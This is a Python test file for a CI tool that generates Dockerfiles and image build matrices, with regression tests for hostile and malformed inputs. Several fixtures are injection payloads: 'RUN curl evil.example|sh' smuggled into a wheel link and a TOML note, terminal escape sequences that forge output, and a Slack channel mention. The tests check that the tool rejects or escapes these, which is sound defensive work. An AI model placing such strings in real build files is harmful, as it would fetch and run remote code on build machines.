"""Each hostile input that once got through, by its id; test_hostile_properties.py has the kinds of them."""

import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, Any, cast

import pytest

from ci.config.locks import Locks
from ci.config.matrix import read_matrix
from ci.config.selection import select_cells, select_pair
from ci.config.sources import read_sources
from ci.config.variants import Rule
from ci.generate.bake import FILE
from ci.generate.ci_files import render_ci_files
from ci.generate.dockerfile import dockerfile
from ci.generate.files import render_files
from ci.history.failures import classify_failure
from ci.history.history import History, merge_histories, missing_lines, read_history
from ci.history.records import Failure
from ci.index.wheels import load_pages, read_page
from ci.inspection.sizes import format_sizes, read_sizes
from ci.plan.inputs import Options, PlanInputs
from ci.plan.lint import lint_locks, lint_matrix
from ci.plan.plan import Plan
from ci.plan.planner import Planner, parse_archs
from ci.plan.tags import make_tags, parse_repository
from ci.report.model import make_report
from ci.session.history_store import name_volume
from ci.session.session import Session, images_to_report
from ci.sweep import notify
from ci.sweep.notify import Webhook, post, summarize_news
from ci.sweep.preview import excluded_cells, preview, render_text
from ci.updates.bump import Bump, edit_document
from ci.updates.outdated import find_outdated
from tests.unit import sample_histories as samples
from tests.unit.fake_indexes import FakeIndexes, settle
from tests.unit.plans import code, locks, matrix_with, shipped
from tests.unit.user_errors import mistake

if TYPE_CHECKING:
    import dagger

TEXT = shipped("matrix.toml")
A = "cu12.8.1-py3.13-devel"
NOW = "2026-11-22T04:00:00Z"


def inputs(text: str = TEXT, sources: str = "upstream", mirrors: str | None = None) -> PlanInputs:
    return PlanInputs(
        matrix=read_matrix(text, "mine.toml"),
        sources_name=sources,
        sources=read_sources(sources, mirrors, "mirrors.toml"),
        locks=locks(),
        code=code(),
    )


def plans(given: PlanInputs, cuda: str = "12.8.1", python: str = "3.13", pages: Any = None) -> list[Plan]:
    planner = Planner(given, pages or {}, Options())
    return [planner.plan(cell) for cell in select_pair(given.matrix, cuda, python)]


def without(text: str, start: str, end: str) -> str:
    return text[: text.index(start)] + text[text.index(end) :]


def status(history: History) -> str:
    return make_report(history, [A], now=NOW).rows[0].status


def test_d01_a_whole_record_behind_a_cut_one_is_read() -> None:
    line = samples.record(A, **samples.image(5)).line()
    assert line.startswith('{"archs": [{')
    cut = read_history(line[:150] + line)
    assert len(cut.records) == 1
    assert cut.text() == f"{line[:150]}\n{line}"
    assert len(read_history(line.strip() + line).records) == 2
    other = json.dumps(dict(reversed(json.loads(line).items())))
    assert len(read_history(line[:150] + other).records) == 1, "whatever the first key is"


@pytest.mark.parametrize(
    "more",
    [
        {"gpu": "A100"},
        {"status": "failed", "failure": {"kind": "timeout", "stage": "a", "message": "b"}},
        {"status": "paused"},
        {"schema": 99},
    ],
    ids=str,
)
def test_d02_a_line_that_is_not_understood_is_written_back(more: dict[str, Any]) -> None:
    known = samples.record(A)
    line = json.dumps(json.loads(known.line()) | more)
    text = f"{line}\n{known.line()}nonsense\n"
    read = read_history(text)
    assert read.text() == merge_histories(read, History()).text() == text
    assert missing_lines(History((known,)), read) == f"{line}\nnonsense\n"
    assert missing_lines(read, read) == ""


def test_d03_two_cuda_versions_with_the_same_tags_are_refused() -> None:
    text = TEXT.replace("[cuda.cpu]", '[cuda."13.0.2"]\nwheel_tag = "cu130"\n[cuda.cpu]', 1)
    text = text.replace(
        '[[pairs]]\ncuda = "cpu"', '[[pairs]]\ncuda = "13.0.2"\npython = "3.14"\n[[pairs]]\ncuda = "cpu"'
    )
    message = mistake(lambda: read_matrix(text, "mine.toml"))
    assert "13.0.2" in message
    assert "wheel_tag cu130" in message


@contextmanager
def server(answer: bytes, pause: float = 0.0) -> Iterator[int]:
    """Answer one request with bytes, with a pause after each; return the port."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        done = threading.Event()

        def serve() -> None:
            with suppress(OSError):
                client, _ = listening.accept()
                with client:
                    client.recv(9999)
                    for byte in answer if pause else [0]:
                        client.sendall(bytes([byte]) if pause else answer)
                        if done.wait(pause):
                            return

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield listening.getsockname()[1]
        finally:
            done.set()
            listening.close()
            thread.join(20)


JUNK = [
    b"SSH-2.0-x\r\n",
    b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 200 + b"\r\n",
    b"HTTP/1.1 " + b"9" * 70_000,
    b"",
    b"\0" * 9,
]


@pytest.mark.parametrize("answer", JUNK, ids=[repr(junk[:12]) for junk in JUNK])
async def test_t01_a_server_that_speaks_no_http_is_an_error_and_no_exception(answer: bytes) -> None:
    with server(answer) as port:
        error = await post(f"http://127.0.0.1:{port}/services/SECRET", "x")
    assert error
    assert "SECRET" not in error


class Address:
    """A secret that has an address."""

    def __init__(self, text: str) -> None:
        self._text = text

    async def plaintext(self) -> str:
        return self._text


BAD_ADDRESSES = (
    "http://hooks.example:abc/services/SECRET",
    "https://hooks.example/services/SECRET # prod",
    "http://[",
    "http://\ud800/SECRET",
    "\0",
    "http://127.0.0.1:1/SECRET",
)


@pytest.mark.parametrize("address", BAD_ADDRESSES, ids=repr)
async def test_t01_an_address_that_is_none_is_told_in_a_line_without_it(address: str) -> None:
    hook = Webhook(cast("dagger.Secret", Address(address)), None)
    line = await hook.post_news(History(), [samples.failed(A, samples.NETWORK)])
    assert line.startswith("webhook: not told (")
    assert "SECRET" not in line


def test_s01_what_a_step_printed_is_escaped_for_slack() -> None:
    failure = Failure(kind="compile-error", stage="wheels", message="<!channel> <http://e|fix> vector<T> & x")
    news = summarize_news(History(), [samples.failed(A, failure)])
    assert "<" not in news
    assert "&lt;!channel&gt; &lt;http://e|fix&gt; vector&lt;T&gt; &amp; x" in news


WHEEL = "torch_scatter-2.1.2%2Bpt211cu128-cp313-cp313-linux_x86_64.whl"


@pytest.mark.parametrize(
    "link",
    [
        f"foo:x /y&#10;RUN curl evil.example|sh&#10;ADD http://e/{WHEEL}",
        f"https://e/a.tgz / https://e/{WHEEL}",
        f"https://e/$HOME/{WHEEL}",
        f"https://user:secret@e/{WHEEL}",
        f"file:///{WHEEL}",
        f"https://e/&quot;/{WHEEL}",
        f"https://e/\\/{WHEEL}",
    ],
)
def test_s02_a_link_that_is_no_plain_address_is_no_wheel(link: str) -> None:
    address = "https://data.pyg.org/whl/torch-2.11.0%2Bcu128.html"
    page = read_page(address, f'<a href="{link}">x</a>')
    assert page.links == ()
    text = dockerfile(plans(inputs(), pages={address: page}), "x", {})["Dockerfile"]
    assert "ADD" not in text
    with_page = read_page(address, f'<a href="https://e/{WHEEL}">x</a>')
    assert (
        f"ADD https://e/{WHEEL}"
        in dockerfile(plans(inputs(), pages={address: with_page}), "x", {})["Dockerfile"]
    )


def test_s03_a_note_is_one_line() -> None:
    evil = 'note = "x\\nRUN curl evil.example | sh"'
    text = TEXT.replace(
        '[cuda."12.8.1"]\nwheel_tag = "cu128"\nnote', f'[cuda."12.8.1"]\nwheel_tag = "cu128"\n{evil}\n#'
    )
    assert "key 'cuda.12.8.1.note'" in mistake(lambda: read_matrix(text))
    mirrors = f'[toolkit."12.8.1"]\n{evil}'
    assert "key 'toolkit.12.8.1.note'" in mistake(lambda: read_sources("upstream", mirrors))


HIDDEN = TEXT.replace(
    'python = "3.14"\nphases = { runtime = 3', 'python = "3.14"\ndefault = false\nphases = { runtime = 3'
)


@pytest.mark.parametrize(
    "glob", ["*-marimo-devel", "cu12.8.1-py3.14-*devel", "cu12.8.1-py3.14-*", "cu12.8.1-*"]
)
def test_w01_files_are_generated_for_what_exclusions_leave(glob: str) -> None:
    given = inputs(f'{TEXT}\n[[excludes]]\nonly = "{glob}"\nreason = "because"\n')
    groups = json.loads(render_files(given, Options(), {})[FILE])["group"]
    assert all(group["targets"] for group in groups.values())


def test_w01_files_are_generated_with_a_pair_that_must_be_named() -> None:
    assert HIDDEN != TEXT
    assert render_ci_files(inputs(HIDDEN).matrix)
    assert render_files(inputs(HIDDEN), Options(), {})


def test_w02_a_pair_whose_cells_are_all_excluded_is_told_with_the_reason() -> None:
    matrix = inputs(f'{TEXT}\n[[excludes]]\nonly = "cu12.8.1-py3.14-*"\nreason = "because"\n').matrix
    assert "cu12.8.1-py3.14 are excluded in the matrix: because" in mistake(
        lambda: select_pair(matrix, "12.8.1", "3.14")
    )
    for filters in ({"cuda": ["12.8.1"], "python": ["3.14"]}, {"only": ["cu12.8.1-py3.14-*"]}):
        assert "excluded in the matrix: because" in mistake(partial(select_cells, matrix, **filters))  # type: ignore[arg-type]


def test_w03_only_the_glob_that_matches_names_a_hidden_pair() -> None:
    matrix = read_matrix(TEXT)

    def ids(*globs: str) -> list[str]:
        return [cell.id for cell in select_cells(matrix, only=globs)]

    assert ids("cpu-py3.14-*", "*-py3.13-devel") == ids("*-py3.13-devel") == ["cu12.8.1-py3.13-devel"]
    assert not [one for one in ids("cpuX", "*-devel") if one.startswith("cpu")]
    assert {one.partition("-")[0] for one in ids("cpu-*")} == {"cpu"}
    assert "cpu-py3.13" in mistake(lambda: ids("*cpu*"))
    matrix = read_matrix(HIDDEN)
    assert not [one for one in ids("cu12.8.1-py3.13-*", "*-devel", "cu12.8.1-*") if "12.8.1-py3.14" in one]
    assert len(ids("cu12.8.1-py3.14-*")) == 6


def test_w04_a_try_counts_after_the_one_before_it_whatever_the_clock_said() -> None:
    first = samples.failed(A, samples.NETWORK, "2026-11-22T02:10:00Z", attempt=1)
    second = samples.record(A, "2026-11-22T02:05:00Z", attempt=2, **samples.image(5))
    for merged in (History((first, second)), merge_histories(History((first, second)), History((second,)))):
        assert status(merged) == "ok"
    wrong = samples.failed(A, samples.NETWORK, "2099-01-01T00:00:00Z", run="r1")
    right = samples.record(A, run="r2", **samples.image(5))
    history = History((wrong, right))
    for merged in (history, merge_histories(history), merge_histories(history, History((wrong,)), now=NOW)):
        assert status(merged) == "ok"


def test_w05_a_line_that_stands_more_than_once_is_one_try() -> None:
    given = read_history(samples.record(A, **samples.image(5)).line() * 3)
    lines = missing_lines(History(), given)
    assert lines.count("\n") == 1
    assert len(make_report(merge_histories(given), [A], now=NOW).rows[0].tries) == 1


def test_w06_a_report_without_a_filter_has_all_recorded_images() -> None:
    session = cast("Any", object.__new__(Session))
    object.__setattr__(session, "inputs", inputs())
    object.__setattr__(session, "options", Options())
    names = [
        "cu12.8.1-py3.13-runtime",
        "cu12.8.1-py3.13-runtime@slim",
        "cu12.8.1-py3.12-runtime",
        "cpu-py3.13-runtime",
    ]
    history = History(tuple(samples.record(name) for name in names))
    cells = session.matrix.built[:1]
    assert [
        name for name in images_to_report(session, cells, history, filtered=False) if history.latest(name)
    ] == [
        "cu12.8.1-py3.13-runtime",
        "cpu-py3.13-runtime",
        "cu12.8.1-py3.13-runtime@slim",
        "cu12.8.1-py3.12-runtime",
    ]
    assert images_to_report(session, cells, history, filtered=True) == [cells[0].id]


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_w07_a_pair_is_added_behind_the_last_one(newline: str) -> None:
    text = TEXT.replace("\n", newline)
    after = edit_document(text, {}, [("13.1.1", "3.13")])
    added = newline.join(["", "[[pairs]]", 'cuda = "13.1.1"', 'python = "3.13"', ""])
    assert added in after
    assert after.replace(added, "", 1) == text
    comment = after.index("# When CI builds")
    assert after.index(added) < comment < after.index("[schedule]")


@pytest.mark.parametrize(
    "text",
    [
        'x = 1\n[ray]\nversion = "2.60.0"',
        '[ray] # a\u2028b\x85\nversion = "2.60.0"\n',
        '[ray] # é\r\nversion = "2.60.0"\r\n',
        '[ray]\nversion = "2.60.0"\n\n\n# end',
    ],
)
def test_w08_a_diff_is_a_patch(text: str, tmp_path: Path) -> None:
    after = edit_document(text, {("ray", "version"): "2.61.0"})
    (tmp_path / "m.toml").write_bytes(text.encode())
    (tmp_path / "p").write_bytes(Bump(name="m.toml", before=text, after=after, lines=()).diff().encode())
    for command in (["init", "-q"], ["apply", "p"]):
        done = subprocess.run(["git", *command], cwd=tmp_path, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
    assert (tmp_path / "m.toml").read_bytes().decode() == after


@pytest.mark.parametrize(
    "name",
    [
        "ray",
        "base",
        "packed",
        "runtime-files",
        "runtime-base",
        "fetched",
        "9x",
        "default",
        "phase-1",
        "ray.x",
        "A",
        "a-",
        "scratch",
    ],
)
def test_w11_a_target_has_no_name_that_something_else_has(name: str) -> None:
    message = mistake(
        lambda: read_matrix(f'{TEXT}\n[targets."{name}"]\nkind = "runtime"\nlayers = ["ray"]\n')
    )
    assert "targets" in message


def test_w11_no_stage_of_a_dockerfile_could_be_a_target() -> None:
    for variant in ("default", "slim"):
        given = inputs()
        planner = Planner(given, {}, Options(variant=variant))
        made = [planner.plan(cell) for cell in given.matrix.built if planner.plan(cell).variant == variant]
        text = dockerfile([plan for plan in made if plan.cell.pair_id == made[0].cell.pair_id], "x", {})[
            "Dockerfile"
        ]
        stages = {line.rpartition(" AS ")[2] for line in text.splitlines() if line.startswith("FROM ")}
        for stage in stages - set(given.matrix.targets):
            mistake(partial(read_matrix, f'{TEXT}\n[targets."{stage}"]\nkind = "runtime"\nlayers = []\n'))


async def test_w14_the_time_is_for_the_whole_exchange(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(notify, "TIMEOUT", 0.5)
    with server(b"H" * 1000, pause=0.1) as port:
        assert (
            "TimeoutError" in (error := await post(f"http://127.0.0.1:{port}/", "x")) or "no answer" in error
        )


UNBUILDABLE = [
    (TEXT.replace('"cu128"', '"cpu"', 1), "upstream", None, "12.8.1 has wheel_tag cpu"),
    (TEXT, "registries", "[toolkit.'13.1.1']\nprovider='hybrid'", "deb is missing"),
    (TEXT, "registries", "[toolkit.'13.1.1']\nwheels=[]", "wheels is empty"),
    (TEXT, "registries", "[toolkit.'13.1.1']\nprovider='image'", "no image of CUDA"),
    (TEXT, "upstream", "[images]\ndevel='ubuntu:{24'", "brace"),
    (
        TEXT.replace('"3.14"', '"3.03"', 1),
        "upstream",
        None,
        "'3.03' is none; accepted: a Python version such as 3.13",
    ),
    (f'{TEXT}\n[[excludes]]\nonly="cu99*"\nreason="x"\n', "upstream", None, "'cu99*' matches no cell"),
    (TEXT.replace("schema = 1", "schema = true"), "upstream", None, "key 'schema'"),
]


@pytest.mark.parametrize(
    ("text", "sources", "mirrors", "part"), UNBUILDABLE, ids=[row[3] for row in UNBUILDABLE]
)
def test_w15_lint_matrix_tells_what_cannot_be_built(
    text: str, sources: str, mirrors: str | None, part: str
) -> None:
    assert part in mistake(lambda: lint_matrix(inputs(text, sources, mirrors)))


def test_w15_lint_matrix_tells_a_python_that_the_recipe_has_not() -> None:
    text = without(TEXT, "[variants.uv]", "[variants.minimal]").replace(
        '[[pairs]]\ncuda = "cpu"', '[[pairs]]\ncuda = "13.1.1"\npython = "3.15"\n[[pairs]]\ncuda = "cpu"'
    )
    message = mistake(lambda: lint_matrix(inputs(text)))
    assert "no CPython 3.15" in message
    assert "registries" in message


def test_t02_lint_locks_tells_a_missing_row_of_pins() -> None:
    text = without(TEXT, '[torch.registries."12.8.1"]', '[torch.registries."13.1.1"]')
    message = mistake(lambda: lint_locks(inputs(text, "registries")))
    assert message == mistake(lambda: plans(inputs(text, "registries")))
    assert "[torch.registries] has no row for CUDA 12.8.1" in message


@pytest.mark.parametrize("extra", ["data.", "data-", "data_"])
def test_t03_an_extra_ends_with_a_letter_or_digit(extra: str) -> None:
    text = TEXT.replace('"data", "train"', f'"{extra}", "train"')
    assert "key 'ray.extras.0'" in mistake(lambda: read_matrix(text))


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ('{"files":' + "[" * 100_000, "ray"),
        ('{"tags":' + "[" * 100_000, "tags"),
        (
            json.dumps(
                {"tags": ["9" * 5000 + f".1.1-{kind}-ubuntu24.04" for kind in ("cudnn-devel", "base")]}
            ),
            "tags",
        ),
        ("[[1,2]]", "conda"),
        ("[" * 100_000, "conda"),
        ('{"tags": 5}', "tags"),
        ("9" * 5000, "conda"),
    ],
    ids=range(7),
)
def test_t05_odd_answers_of_indexes_are_not_understood(body: str, kind: str) -> None:
    context, indexes = upstream()
    sources = context.inputs.sources
    address = {"tags": sources.images.tags or "", "conda": sources.conda.channels[0]}.get(kind, "")
    indexes.put(body, address, {"conda": "python", "ray": "ray"}.get(kind, ""))
    settle(context, indexes, find_outdated)


def test_t05_a_wheel_of_torch_for_any_python_is_no_abi() -> None:
    from ci.updates.outdated import _abi_order

    assert max(["py3", "cp314", "cp39", "abi3", "none"], key=_abi_order) == "cp314"


def upstream() -> tuple[Any, FakeIndexes]:
    from ci.index.lookup import IndexCache
    from ci.updates.feasibility import UpdateContext

    return UpdateContext(inputs(), IndexCache()), FakeIndexes()


SIZES: dict[str, Any] = {"total": 5, "layers": {}, "packages": {}, "kinds": {}, "elf": {}, "archs": {}}


BAD_SIZES = [
    "[" * 100_000,
    json.dumps(SIZES | {"total": 10**400}),
    "9" * 5000,
    "\ufeff{}",
    '{"total": 1, "total": 2}',
]


@pytest.mark.parametrize("text", [*BAD_SIZES, "[]", "null"], ids=range(7))
def test_t06_a_file_of_sizes_that_is_none_is_told_in_a_line(text: str) -> None:
    assert mistake(lambda: read_sizes(text, "before.json")).startswith("before.json: ")


def test_t06_names_in_a_file_of_sizes_control_no_terminal() -> None:
    sizes = read_sizes(json.dumps(SIZES | {"packages": {"\x1b[2Kok\nforged": 1}}), "before.json")
    assert "\x1b" not in format_sizes(sizes)
    assert "?[2Kok forged" in format_sizes(sizes)


def test_t07_extreme_and_damaged_inputs_of_the_module_are_told_in_a_line() -> None:
    tiny = TEXT.replace("uv_cache_gb", "job_gb = 1e-320\nuv_cache_gb", 1)
    mistake(lambda: read_matrix(tiny))
    for text in ("{", "[]", "{}", '{"python": 5}', "[" * 100_000):
        assert "channel.json" in mistake(lambda text=text: Locks({"channel.json": text}).interpreter("3.13"))  # type: ignore[misc]
    for text in ("{", "[]", '{"a": 5}', '{"a": ["file:///x"]}', "[" * 100_000):
        assert "pages.json" in mistake(lambda text=text: load_pages(text))  # type: ignore[misc]


UNCLEAR = [
    ("\ufeff" + TEXT, "byte order mark"),
    (
        TEXT.replace('"3.14"', '"3.130"', 1),
        "key 'pairs.1.python': '3.130' is none; accepted: a Python version such as 3.13",
    ),
    (
        "pairs = []\n" + TEXT[: TEXT.index("[[pairs]]")] + TEXT[TEXT.index("[schedule]") :],
        "key 'pairs': is empty",
    ),
]


@pytest.mark.parametrize(("text", "part"), UNCLEAR, ids=[part for _, part in UNCLEAR])
def test_u01_a_message_has_the_value_and_what_is_accepted(text: str, part: str) -> None:
    message = mistake(lambda: read_matrix(text, "mine.toml"))
    assert message.startswith("mine.toml: ")
    assert part in message
    assert "Tuple" not in message
    assert "^" not in message


def test_u01_an_address_without_its_scheme_is_shown_with_an_example() -> None:
    message = mistake(
        lambda: read_sources("upstream", "[wheels]\nindex='mirror:8080/simple'", "mirrors.toml")
    )
    assert "'mirror:8080/simple' is none; accepted: an address such as https://" in message


def test_u01_the_filter_that_leaves_nothing_is_named() -> None:
    message = mistake(lambda: select_cells(read_matrix(TEXT), cuda=["cpu"], phase=[1]))
    assert "no cell of --cuda cpu has --phase 1" in message


def test_u02_the_reason_of_an_exclusion_is_one_line() -> None:
    def exclude(reason: str) -> str:
        return f'{TEXT}\n[[excludes]]\nonly = "{A}"\nreason = "{reason}"\n'

    assert "reason" in mistake(lambda: read_matrix(exclude("x\\u001b[2K\\nforged: all checks passed")))
    matrix = read_matrix(exclude("too large"))
    text = render_text(preview([], excluded_cells(matrix, matrix.cells[:2]), History()))
    assert f"{A}: too large" in text


@pytest.mark.parametrize("version", ["1!2.0", "2.10.0" + ".0" * 60, "2.10.0/x", ""])
def test_g01_a_version_that_cannot_stand_in_a_tag_is_refused(version: str) -> None:
    mistake(lambda: make_tags(plans(inputs())[3], "cu128", {"torch": version, "ray": "2.60.0"}))


def test_g01_names_that_would_be_too_long_or_ambiguous_are_refused() -> None:
    long = f'{TEXT}\n[targets."{"t" * 40}"]\nkind = "runtime"\nlayers = []\n[variants."{"p" * 40}"]\n'
    assert "128 characters" in mistake(lambda: read_matrix(long))
    mistake(lambda: read_matrix(f'{TEXT}\n[targets."{"t" * 61}"]\nkind = "runtime"\nlayers = []\n'))
    same = f'{TEXT}\n[targets.runtime-slim]\nkind = "runtime"\nlayers = []\n'
    assert "runtime-slim" in mistake(lambda: read_matrix(same))
    registry = TEXT.replace("plumiiume/cslr-exp-platform", "ghcr.io/team/image")
    assert "ghcr.io is a registry" in mistake(lambda: read_matrix(registry))


@pytest.mark.parametrize(
    "repository", ["localhost:99999/a", "localhost:0/a", "-.-/a", "..a/x", "a..b/x", "a.-b/x", ".b:5/x"]
)
def test_g01_a_repository_has_a_host_and_a_port(repository: str) -> None:
    mistake(lambda: parse_repository(repository))


@pytest.mark.parametrize(
    "repository", ["localhost:5000/a", "127.0.0.1:65535/a/b", "ghcr.io/team/image", "host:1/a"]
)
def test_g01_a_repository_is_accepted(repository: str) -> None:
    assert parse_repository(repository) == repository


def test_g01_no_two_images_share_a_history() -> None:
    names = [
        "me/cslr-images",
        "me-cslr/images",
        "me-cslr-images",
        "me/cslr/images",
        "me-cslr/images/x",
        "mecslr",
        "me/a.b",
    ]
    assert len({name_volume(name) for name in names}) == len(names)
    assert name_volume("plumiiume/cslr-exp-platform") == "plumiiume-cslr-exp-platform", (
        "as it was always called"
    )


@pytest.mark.parametrize("archs", ["0.0", "99.9z", "08.0", "8", "8.0b"])
def test_g01_an_architecture_is_one_that_torch_could_know(archs: str) -> None:
    mistake(lambda: parse_archs(archs))
    mistake(lambda: matrix_with(f'[archs.upstream]\n"12.8.1" = "{archs}"'))


def test_p01_a_report_reads_each_record_a_few_times(monkeypatch: pytest.MonkeyPatch) -> None:
    reads = 0
    key = History._decisive.func  # type: ignore[attr-defined]

    def count(self: History) -> Any:
        nonlocal reads
        reads += len(self.records)
        return key(self)

    monkeypatch.setattr(History._decisive, "func", count)
    names = [f"cu20.{number}.1-py3.10-devel" for number in range(60)]
    make_report(History(tuple(map(samples.record, names))), names, now=NOW)
    assert 0 < reads <= 5 * len(names)


def test_p02_most_lines_of_a_log_are_not_searched() -> None:
    from ci.history.failure_patterns import STEP_PATTERNS

    line = "/usr/local/cuda/bin/nvcc " + " ".join(f"-I/opt/env/include/d{n}" for n in range(200)) + " -c x.cu"
    every = [evidence for _, group in STEP_PATTERNS for evidence in group]
    searched = [evidence for evidence in every if evidence.literal in line.lower()]
    assert len(searched) < len(every) / 10
    assert (
        classify_failure("wheels", f"{line}\n" * 3000 + "x.cu(7): error: no", exit_code=1).kind
        == "compile-error"
    )


def test_p02_a_pattern_with_many_folders_is_refused() -> None:
    Rule(takes="x", remove=("**/a/**/b/**/c",), noticed_by=("imports",))
    with pytest.raises(ValueError, match=r"more than 3"):
        Rule(takes="x", remove=("**/" * 8 + "x",), noticed_by=("imports",))
